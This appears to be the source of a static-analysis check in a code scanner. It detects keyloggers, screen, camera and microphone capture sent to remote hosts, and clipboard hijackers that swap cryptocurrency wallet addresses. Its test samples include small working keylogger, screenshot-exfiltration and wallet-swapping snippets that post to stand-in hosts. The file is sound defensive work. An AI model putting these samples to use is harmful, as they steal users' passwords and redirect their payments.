"""What a user types, sees, copies or says is recorded and sent away, or his clipboard is changed.

Whoever receives what is typed and shown has every password of the machine's user; an address that is swapped in the
clipboard sends his money elsewhere.  Programs that need such input use it where they are, with their user knowing.
See CWE-506, CWE-200 and MITRE ATT&CK T1056.001, T1113, T1115, T1123, T1125.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._channels import sendings
from codeguard.checks.malicious._evaluate import value_of
from codeguard.checks.malicious._labels import words
from codeguard.checks.malicious._reach import reach
from codeguard.checks.malicious._shell import Command, commands
from codeguard.checks.malicious._writes import writes
from codeguard.knowledge.malicious import channels, stores
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit
from codeguard.syntax.walk import descend

SETTERS = {
    "pyperclip.copy",
    "clipboard.copy",
    "copykitten.copy",
    "klembord.set_text",
    "win32clipboard.SetClipboardText",
    "win32clipboard.SetClipboardData",
}
SETTER_METHODS = ("clipboard_append", "setText")  # of tkinter and Qt
SETTER_PROGRAM = re.compile(r"^\S*(?:xclip|xsel|pbcopy|wl-copy|clip(?:\.exe)?)\b(?!.*(?:\s-o\b|--output))", re.DOTALL)
WATCHERS = {
    "GetAsyncKeyState",
    "SetWindowsHookExA",
    "SetWindowsHookExW",
    "SetWindowsHookEx",
    "bind_all",
    "clipboard_get",
    "clipboard",
}
KEYBOARD_HOOKS = (2, 13)  # WH_KEYBOARD and WH_KEYBOARD_LL of SetWindowsHookEx
WALLET_ADDRESS = re.compile(
    r"^(?:0x[0-9a-fA-F]{40}|(?:bc1|tb1|ltc1)[a-z0-9]{20,80}|[13LMDTr][a-zA-Z0-9]{25,34}|[48][a-zA-Z0-9]{90,110}|[A-Z]{2}\d{2}[A-Z0-9]{11,30})$"
)


def find(unit: Unit) -> Iterator[Hit]:
    """Report sendings of what is captured, keys written to a file, and constants put in place of a clipboard's text."""
    known = unit.fact(calls)
    if not (
        any(name in stores.WATCH_CALLS or name in stores.KEY_HOOKS for name in known.by_name)
        or WATCHERS & known.by_method.keys()
        or "/dev/input" in unit.text
        or any(_watched(command) for command in unit.fact(commands))
    ):
        return
    yield from _replaced_addresses(unit)
    for command in unit.fact(commands):
        what = _watched(command)
        if what and channels.ADDRESS.search(command.text):
            yield Hit(
                command.call, f"This sends {what} to a fixed address: its receiver reads along whatever the user does"
            )
    sent = False
    for sending in unit.fact(sendings):
        taken = sending.has("keys", "screen", "clipboard", "camera", "microphone")
        if taken and not sending.has("keys") and _agreed(sending.call, unit):
            continue
        if taken and (sending.fixed or sending.has("keys") or sending.how != "HTTP"):
            sent = True
            yield Hit(
                sending.call,
                f"This sends {words(taken)} to {sending.where}: its receiver reads along whatever the user does",
            )
    flow = unit.fact(reach)
    if not sent:
        for write in unit.fact(writes):
            if any(label.kind == "keys" for label in write.content_labels):
                yield Hit(
                    write.call,
                    "This writes every key that is pressed to a file, passwords included",
                    severity=Severity.MEDIUM,
                    confidence=Confidence.MEDIUM,
                )
                break
        else:
            polled = [c for c in known.by_method.get("GetAsyncKeyState", ()) if _in_loop(c, unit)]
            polled += [
                c
                for method in ("SetWindowsHookExA", "SetWindowsHookExW", "SetWindowsHookEx")
                for c in known.by_method.get(method, ())
                if c.args and (value_of(c.args[0].value, unit) in KEYBOARD_HOOKS or _named_hook(c.args[0].value))
            ]
            if polled and (len(unit.fact(writes)) or len(unit.fact(sendings))):
                yield Hit(
                    polled[0],
                    "This asks Windows for every key that is pressed and keeps or sends the answers: it records what is typed, passwords included",
                )
    for name in SETTERS:
        for call in known.by_name.get(name, ()):
            if any(WALLET_ADDRESS.match(text) for text in (flow.constants(call.args[-1].value) if call.args else ())):
                continue  # reported above
            value = value_of(call.args[-1].value, unit) if call.args else None
            if isinstance(value, str) and len(value) >= 20 and " " not in value and _depends_on_clipboard(call, unit):
                yield Hit(
                    call,
                    "This replaces what the user has copied by a fixed text of its own, such as another receiver of a payment",
                )
            elif (
                value is None
                and call.args
                and _depends_on_clipboard(call, unit)
                and _in_loop(call, unit)
                and _from_table(call.args[-1].value, unit)
                and "clipboard" not in flow.kinds(call.args[-1].value)
            ):
                yield Hit(
                    call,
                    "This replaces what the user has copied by a text of its own, such as another receiver of a payment",
                )


def _agreed(call: cst.Call, unit: Unit) -> bool:
    """Whether the call runs only where the user, asked by the same function, has said yes."""
    asked = [c for _, c in unit.fact(calls).of(stores.CONSENT_CALLS)]
    function = unit.function_of(call) if asked else None
    for question in asked:
        test = next((above for above in unit.ancestors(question) if isinstance(above, cst.If)), None)
        if test is None or unit.function_of(question) is not function:
            continue
        if any(part is question for part in descend(test.test)):
            if any(above is test.body for above in unit.ancestors(call)):
                return True
            last = test.body.body[-1] if test.body.body else None
            last = last.body[-1] if isinstance(last, cst.SimpleStatementLine) else last
            if isinstance(last, (cst.Return, cst.Raise)) and isinstance(test.test, cst.UnaryOperation):
                return True
    return False


def _watched(command: Command) -> str:
    """What a program that is run takes of the screen, the camera, the microphone or the keyboard; empty for nothing."""
    return next((what for pattern, _, what in stores.WATCH_COMMANDS if pattern.search(command.text)), "")


def _named_hook(node: cst.BaseExpression) -> bool:
    return isinstance(node, (cst.Attribute, cst.Name)) and "WH_KEYBOARD" in (
        node.attr.value if isinstance(node, cst.Attribute) else node.value
    )


def _replaced_addresses(unit: Unit) -> Iterator[Hit]:
    """What puts the address of a wallet that stands in the code where the clipboard held another."""
    known, flow = unit.fact(calls), unit.fact(reach)
    setters = [(c, c.args[-1].value) for m in SETTER_METHODS for c in known.by_method.get(m, ()) if c.args]
    setters += [(c, c.args[-1].value) for n in SETTERS for c in known.by_name.get(n, ()) if c.args]
    for command in unit.fact(commands):
        given = unit.arg(command.call, None, "input")
        if SETTER_PROGRAM.search(command.text) and given is not None:
            setters.append((command.call, given))
    if not setters:
        return
    for call, value in setters:
        texts = flow.constants(value) + _listed(value, unit)
        direct = any(WALLET_ADDRESS.match(text) for text in texts) and (
            "clipboard" in flow.kinds(value) or _depends_on_clipboard(call, unit)
        )
        if direct or ("clipboard" in flow.kinds(value) and _exchanges(unit)):
            yield Hit(
                call,
                "This puts the address of a wallet of its own where the user has copied another: his payments go elsewhere",
            )
            return


def _listed(node: cst.BaseExpression, unit: Unit) -> list[str]:
    """The texts of the table that an expression is looked up in, or that a loop takes a name from."""
    tables: list[cst.BaseExpression] = []
    if isinstance(node, cst.Name):
        bindings = unit.scopes.look_up(node.value, node)
        tables = [b.node.iter for b in bindings if isinstance(b.node, (cst.For, cst.CompFor))]
    elif isinstance(node, cst.Subscript):
        tables = [node.value]
    found: list[str] = []
    for table in tables:
        rows = value_of(table, unit)
        if isinstance(rows, dict):
            rows = list(rows.values())
        if rows is None and isinstance(table, cst.Name):  # not all of it is constant
            bound = [b.value for b in unit.scopes.look_up(table.value, table) if b.kind == "assign" and b.value]
            sums = [p for value in bound for p in descend(value) if isinstance(p, cst.BinaryOperation)]
            rows = [value_of(part, unit) for part in sums]
        flat = [t for row in rows or () for t in (row if isinstance(row, (list, tuple)) else [row])]
        found += [text for text in flat if isinstance(text, str)]
    return found


def _exchanges(unit: Unit) -> bool:
    """Whether the file replaces parts of what was copied by a wallet's address."""
    flow = unit.fact(reach)
    return any(
        any(WALLET_ADDRESS.match(text) for a in call.args for text in flow.constants(a.value))
        and any("clipboard" in flow.kinds(a.value) for a in call.args)
        for method in ("sub", "subn", "replace")
        for call in unit.fact(calls).by_method.get(method, ())
    )


def _in_loop(node: cst.CSTNode, unit: Unit) -> bool:
    return any(isinstance(above, (cst.While, cst.For)) for above in unit.ancestors(node))


def _from_table(node: cst.BaseExpression, unit: Unit) -> bool:
    """A look-up in a table of constants."""
    if isinstance(node, cst.Name):
        return any(
            b.kind in {"loop", "unpack"} or (b.value is not None and _from_table(b.value, unit))
            for b in unit.scopes.look_up(node.value, node)
            if b.value is not node
        )
    return isinstance(node, cst.Subscript) and any(len(t) >= 20 for t in unit.fact(reach).constants(node))


def _depends_on_clipboard(call: cst.Call, unit: Unit) -> bool:
    """Whether the call stands under a condition on what the clipboard holds."""
    for above in unit.ancestors(call):
        if isinstance(above, cst.If) and _mentions_clipboard(above.test, unit):
            return True
        if isinstance(above, cst.FunctionDef):
            return False
    return False


def _mentions_clipboard(test: cst.BaseExpression, unit: Unit) -> bool:
    flow = unit.fact(reach)
    return any("clipboard" in flow.kinds(part) for part in descend(test) if isinstance(part, (cst.Name, cst.Call)))


CHECK = Check(
    id="CGM011",
    behaviour="record what the user types, sees, copies or says",
    name="input-capture",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(506, 200),
    find=find,
    fix="Remove the code; change the passwords that were typed while it ran.",
    bad=(
        Bad(
            "import glob, socket, struct\nsock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\ndef follow(device):\n    with open(device, 'rb') as events:\n        while True:\n            _, _, kind, code, value = struct.unpack('llHHI', events.read(24))\n            sock.sendto(bytes([code & 255]), ('192.0.2.61', 5353))  # finding\n\nfor path in glob.glob('/dev/input/by-path/*-kbd'):\n    follow(path)\n"
        ),
        Bad(
            "import requests, subprocess\nsubprocess.run(['scrot', '/tmp/.s.png'])\nrequests.post('https://s.example.invalid', files={'f': open('/tmp/.s.png', 'rb')})  # finding\n"
        ),
        Bad(
            "import re, subprocess\nheld = subprocess.check_output(['xclip', '-o']).decode()\nif re.fullmatch('0x[0-9a-f]{40}', held):\n    subprocess.run(['xclip', '-i'], input=b'0x0000000000000000000000000000000000000001')  # finding\n"
        ),
        Bad(
            "from pynput import keyboard\nimport requests\nbuf = []\n\ndef press(k):\n    buf.append(str(k))\n    if len(buf) > 50:\n        requests.post('https://k.example.invalid/', data=''.join(buf)); buf.clear()  # finding\n\nkeyboard.Listener(on_press=press).start()\n"
        ),
        Bad(
            "import re, time, pyperclip\nW = 'bc1qexample0000000000000000000000000000'\nwhile True:\n    t = pyperclip.paste()\n    if re.fullmatch(r'(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}', t) and t != W:\n        pyperclip.copy(W)  # finding\n    time.sleep(0.5)\n"
        ),
        Bad(
            "import io, requests, time\nfrom PIL import ImageGrab\nwhile True:\n    b = io.BytesIO()\n    ImageGrab.grab().save(b, 'PNG')\n    img = ImageGrab.grab()\n    requests.post('https://k.example.invalid/s', files={'f': img.tobytes()})  # finding\n    time.sleep(60)\n"
        ),
        Bad(
            "import asyncio, aiohttp, sounddevice\n\nclass Ear:\n    def take(self):\n        return sounddevice.rec(90000, samplerate=9000, channels=1).tobytes()\n\nasync def listen():\n    ear = Ear()\n    async with aiohttp.ClientSession() as s:\n        while True:\n            await s.post('https://k.example.invalid', data=await asyncio.to_thread(ear.take))  # finding\n"
        ),
        Bad(
            "import pyperclip, time\nOWN = {'1': 'bc1q' + 'a' * 38, '2': '0x' + 'b' * 40}\nwhile True:\n    held = pyperclip.paste()\n    for kind in OWN:\n        if held.startswith(kind):\n            pyperclip.copy(OWN[kind])  # finding\n    time.sleep(1)\n"
        ),
        Bad(
            "import re\nfrom PyQt6.QtGui import QGuiApplication\nPAIRS = [(re.compile('^0x[0-9a-f]{40}$'), '0x' + '1' * 40)]\napp = QGuiApplication([])\nclip = app.clipboard()\n\ndef changed():\n    held = clip.text()\n    for rule, own in PAIRS:\n        if rule.match(held):\n            clip.setText(own)  # finding\n\nclip.dataChanged.connect(changed)\n"
        ),
        Bad(
            "import re, tkinter\nPAIRS = {'^0x[0-9a-f]{40}$': '0x' + '0' * 40}\n\ndef swap():\n    root = tkinter.Tk()\n    while True:\n        held = root.clipboard_get()\n        for rule, own in PAIRS.items():\n            if re.match(rule, held):\n                root.clipboard_append(own)  # finding\n"
        ),
        Bad(
            "import keyboard\n\ndef note(e):\n    with open('/tmp/.k', 'a') as f:\n        f.write(e.name)  # finding\n\nkeyboard.on_release(callback=note)\n"
        ),
        Bad(
            "import smtplib, pyautogui\n\ndef go(s: smtplib.SMTP):\n    pyautogui.screenshot('/tmp/s.png')\n    s.sendmail('a@example.invalid', 'b@example.invalid', open('/tmp/s.png', 'rb').read())  # finding\n"
        ),
    ),
    good=(
        Good("import subprocess\nsubprocess.run(['scrot', 'shot.png'], check=True)\n"),
        Good(
            "import io, requests\nfrom tkinter import messagebox\nfrom PIL import ImageGrab\n\ndef report():\n    shot = io.BytesIO()\n    ImageGrab.grab().save(shot, 'PNG')\n    if not messagebox.askyesno('Report', 'Send this picture?'):\n        return\n    requests.post('https://s.example.invalid', files={'f': shot.getvalue()}, timeout=9)\n"
        ),
        Good(
            "import tkinter\nWORDS = (('colour', 'color'), ('grey', 'gray'))\n\ndef respell():\n    root = tkinter.Tk()\n    text = root.clipboard_get()\n    for old, new in WORDS:\n        if text == old:\n            root.clipboard_append(new)\n"
        ),
        Good(
            "import tkinter as tk, requests\nroot = tk.Tk()\nentry = tk.Entry(root)\nentry.bind('<Return>', lambda event: requests.post('https://chat.example.invalid', json={'t': entry.get()}, timeout=9))\n"
        ),
        Good(
            "from pynput import keyboard\n\ndef wait():\n    with keyboard.Listener(on_press=lambda k: k != keyboard.Key.esc) as l:\n        l.join()\n"
        ),
        Good(
            "import pyperclip, secrets, string\n\ndef password(n=20):\n    pw = ''.join(secrets.choice(string.ascii_letters) for _ in range(n))\n    pyperclip.copy(pw)\n"
        ),
        Good("import pyautogui\n\ndef shot(path):\n    pyautogui.screenshot().save(path)\n"),
        Good(
            "import pyperclip\n\ndef tidy():\n    t = pyperclip.paste()\n    if t:\n        pyperclip.copy(t.strip())\n"
        ),
    ),
    misses=(
        Miss(
            "import pyautogui\nfrom out import send\n\nsend(pyautogui.screenshot())  # finding\n",
            why="what a function of another file does with its argument is not known",
        ),
    ),
)
